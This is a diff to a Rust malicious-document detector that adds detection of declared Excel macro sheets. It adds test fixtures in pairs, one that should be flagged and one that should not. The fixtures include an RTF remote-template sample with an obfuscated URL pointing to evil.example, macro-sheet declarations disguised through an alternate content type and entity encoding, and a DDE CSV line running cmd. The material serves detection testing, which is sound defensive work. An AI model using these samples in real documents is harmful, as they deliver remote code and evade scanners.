@@ -154,7 +154,7 @@ fn msdt(file: &File<'_>) -> bool {
 
 fn xlm(file: &File<'_>) -> bool {
     let old = file.names.iter().any(|name| name == "Workbook" || name == "Book") && has_macro_sheet(file.data);
-    old || name_has(file, "xl/macrosheets/") || office::symbolic_macros(file)
+    old || name_has(file, "xl/macrosheets/") || office::declares_macro_sheet(file) || office::symbolic_macros(file)
 }
 
 /// Records of BIFF: a sheet whose kind is that of macros.
@@ -217,6 +217,11 @@ mod tests {
                 ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}}")),
             ),
             (
+                "remote-template",
+                ("a.rtf", text("{\\rtf1{\\*\\template \\u104?\\u-65420 ?\\'74p\\u58?//evil.example/a}}")),
+                ("a.rtf", text("{\\rtf1{\\*\\template \\u78?\\'6frmal.dotm}{\\field http://a.example}}")),
+            ),
+            (
                 "remote-object",
                 ("word/_rels/document.xml.rels", rels("oleObject", "External")),
                 ("word/_rels/document.xml.rels", rels("oleObject", "Internal")),
@@ -259,6 +264,27 @@ mod tests {
             ),
             ("dde", ("a.csv", text("1,2\n=cmd|'/c calc'!A0,3\n")), ("a.csv", text("a|b!c,=1+2\n-5,x|y\n"))),
             ("xlm", ("Workbook", workbook(1)), ("Workbook", workbook(0))),
+            (
+                "xlm",
+                (
+                    "[Content_Types].xml",
+                    text("<Override PartName='/xl/a.dat' ContentType='application/vnd.ms-excel.intlmacrosheet+xml'/>"),
+                ),
+                (
+                    "[Content_Types].xml",
+                    text(
+                        "<Override PartName='/xl/macrosheet.xml' ContentType='application/vnd.ms-excel.worksheet+xml'/>",
+                    ),
+                ),
+            ),
+            (
+                "xlm",
+                (
+                    "xl/_rels/workbook.xml.rels",
+                    text("<Relationship Type='http://x/2006/relationships/xlMacro&#115;heet'/>"),
+                ),
+                ("xl/_rels/workbook.xml.rels", text("<Relationship Type='http://x/2006/relationships/worksheet'/>")),
+            ),
             ("xlm", ("xl/macrosheets/sheet1.xml", text("<x/>")), ("xl/worksheets/sheet1.xml", text("<x/>"))),
             (
                 "svg-script",
